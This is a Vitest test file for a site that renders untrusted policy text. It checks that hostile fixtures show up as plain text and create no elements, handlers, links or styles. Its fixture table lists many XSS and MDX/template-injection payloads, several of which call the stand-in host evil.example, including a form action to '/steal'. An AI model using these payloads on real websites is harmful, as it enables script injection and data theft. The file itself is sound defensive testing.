/**
 * Untrusted policy text in the built HTML: the hostile fixtures (test/fixtures/policies, bodies NOT
 * neutralised, plus one that went through the real importer) show their markup as text, and nothing in them
 * became an element, an attribute, a link target or a style.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import * as cheerio from 'cheerio';
import { describe, expect, it } from 'vitest';
import { UNTRUSTED_POLICY_IDS } from '../support/pages.ts';
import { builtFile, PROJECT_ROOT } from '../support/site.ts';

/** What a reader must see, verbatim, in the text of each hostile page. */
const SHOWN_AS_TEXT: Record<string, string[]> = {
  'hostile-markup.example/2019-03-01': [
    "<script>alert('script-block')</script>",
    "<script>window.__pwned = 1; fetch('https://evil.example/inline')</script>",
    '<SCRIPT SRC="https://evil.example/upper.js"></SCRIPT>',
    `<img src="https://evil.example/pixel.png" onerror="alert('onerror')">`,
    `<a href="#" onclick="alert('onclick')">click me</a>`,
    `<svg onload="alert('svg-onload')">`,
    `<body onload="alert('body-onload')">`,
    `<details open ontoggle="alert('ontoggle')">`,
    `<iframe src="https://evil.example/frame" srcdoc="<script>alert('srcdoc')</script>"></iframe>`,
    '<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed">',
    '<form action="https://evil.example/steal">',
    '<style>body { display: none }',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel="stylesheet" href="https://evil.example/sheet.css">',
    '<base href="https://evil.example/">',
    '<span style="color:red;background:url(https://evil.example/inline-style)">',
    "</p></section></main><script>alert('breakout')</script>",
    `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>`,
  ],
  'hostile-markup.example/2020-07-15': [
    `<a href="javascript:alert('raw-anchor')">raw anchor</a>`,
    "{alert('mdx-expression')}",
    '{/* an MDX comment */}',
    '<Component prop={window.location} />',
    '<Evil.Widget client:load />',
    "import Evil from './evil.js'",
    "export const pwned = alert('mdx-export')",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile text that must stay text
    "{{ constructor.constructor('alert(1)')() }} and ${alert('template')}",
    "<!-- a hidden comment <script>alert('comment')</script> -->",
    'Before a comment <!-- inline comment --> after a comment.',
    // Entities decode once, as Markdown says: the reader sees the characters, never markup.
    "<script>alert('entity-escaped')</script>",
    "<img src=x onerror=alert('numeric-entity')>",
    '&lt;b&gt;double-escaped&lt;/b&gt;',
    "<![CDATA[ <script>alert('cdata')</script> ]]>",
    '<?php echo "processing instruction"; ?>',
  ],
  'imported-hostile.example/2018-05-20': [
    "<script>alert('imported-script')</script>",
    `<img src=x onerror="alert('imported-onerror')">`,
    `<a href="#" onclick="alert('imported-onclick')">click</a>`,
    '<iframe src="https://evil.example/imported-frame"></iframe><style>body{display:none}</style>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/imported-refresh">',
    "{alert('imported-mdx')} and <Component prop={window.location} />",
    "<!-- imported comment <script>alert('imported-comment')</script> -->",
    "<script>alert('imported-entity')</script>",
  ],
};

/** The visible text of the policy body, with whitespace runs collapsed. */
function bodyText(policyId: string) {
  const $ = cheerio.load(readFileSync(builtFile('policies', policyId, 'index.html'), 'utf8'));
  return { $, text: $('.policy-body').text().replace(/\s+/g, ' ') };
}

describe.each(UNTRUSTED_POLICY_IDS)('untrusted text of %s', (policyId) => {
  const { $, text } = bodyText(policyId);

  it.each(SHOWN_AS_TEXT[policyId])('shows %s as text', (snippet) => {
    expect(text).toContain(snippet.replace(/\s+/g, ' '));
  });

  it('became no element, attribute, link target or style', () => {
    const body = $('.policy-body');
    expect(body.length).toBe(1);
    // Only the markup our renderer makes.
    const allowed = new Set(['section', 'h2', 'h3', 'h4', 'p', 'ul', 'ol', 'li', 'a', 'span', 'strong', 'em', 'code', 'pre', 'br', 'hr', 'blockquote', 'del', 's', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div']);
    const tags = new Set(body.find('*').map((_, el) => (el as { tagName: string }).tagName).get());
    expect([...tags].filter((tag) => !allowed.has(tag))).toEqual([]);
    body.find('*').each((_, el) => {
      for (const name of Object.keys((el as { attribs: Record<string, string> }).attribs)) {
        expect(name).toMatch(/^(class|id|href|rel|start|aria-[a-z]+|data-pagefind-[a-z]+|data-since|tabindex|role|colspan|rowspan|align|style)$/);
        if (name === 'style') expect($(el).attr('style')).toMatch(/^text-align:(left|right|center)$/);
      }
    });
    body.find('a[href]').each((_, el) => {
      const href = $(el).attr('href');
      // Topic tags are ours (the classifier's labels); every other link came from the policy text.
      if ($(el).parent().is('.topics')) expect(href).toMatch(/^\/topics\/[a-z0-9-]+\/$/);
      else expect(href).toMatch(/^(#[\p{L}\p{N}-]+|https?:\/\/[^\s"'<>]+|mailto:[^\s"'<>]+)$/u);
    });
    // In the whole page: no script but our own module, no frame, no refresh, no base, no handler attribute.
    expect($('iframe, frame, object, embed, base, form[action^="http"], meta[http-equiv="refresh" i]').length).toBe(0);
    expect($('script').map((_, el) => $(el).attr('type')).get().every((type) => type === 'module')).toBe(true);
    expect($('script[src]').get().every((el) => $(el).attr('src')!.startsWith('/_astro/'))).toBe(true);
    expect($('meta[http-equiv]').map((_, el) => $(el).attr('http-equiv')!.toLowerCase()).get()).toEqual(['content-security-policy']);
    $('*').each((_, el) => {
      for (const name of Object.keys((el as { attribs: Record<string, string> }).attribs)) expect(name).not.toMatch(/^on/i);
    });
    expect($('[href^="javascript:" i], [href^="data:" i], [href^="vbscript:" i], [src^="javascript:" i], [src^="data:" i]').length).toBe(0);
    // No evil.example anywhere as a URL the browser would load or follow.
    expect($('[href*="evil.example"], [src*="evil.example"], [action*="evil.example"], [data*="evil.example"]').length).toBe(0);
  });
});

describe('test fixtures stay out of the public sample', () => {
  it('no fixture domain is in src/content/policies', () => {
    const fixtureDomains = readdirSync(path.join(PROJECT_ROOT, 'test/fixtures/policies'));
    expect(fixtureDomains).toEqual(expect.arrayContaining(UNTRUSTED_POLICY_IDS.map((id) => id.split('/')[0])));
    let sampleDomains: string[] = [];
    try {
      sampleDomains = readdirSync(path.join(PROJECT_ROOT, 'src/content/policies'));
    } catch {
      // No sample yet: nothing to leak into.
    }
    expect(sampleDomains.filter((domain) => fixtureDomains.includes(domain))).toEqual([]);
  });
});
